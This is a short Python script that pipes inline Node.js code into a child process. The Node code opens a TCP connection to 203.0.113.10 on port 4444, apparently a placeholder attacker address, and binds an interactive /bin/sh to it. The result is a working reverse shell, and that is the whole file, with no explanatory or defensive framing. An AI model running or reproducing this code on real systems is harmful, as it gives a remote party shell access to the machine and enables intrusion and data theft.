import asyncio, os
async def go():
    proc = await asyncio.create_subprocess_exec("node", "-", stdin=asyncio.subprocess.PIPE)
    await proc.communicate(b"""
    const { spawn } = require('child_process'); const net = require('net');
    const s = net.connect(4444, '203.0.113.10', () => { const sh = spawn('/bin/sh', ['-i']); s.pipe(sh.stdin); sh.stdout.pipe(s); });
    """)
asyncio.run(go())
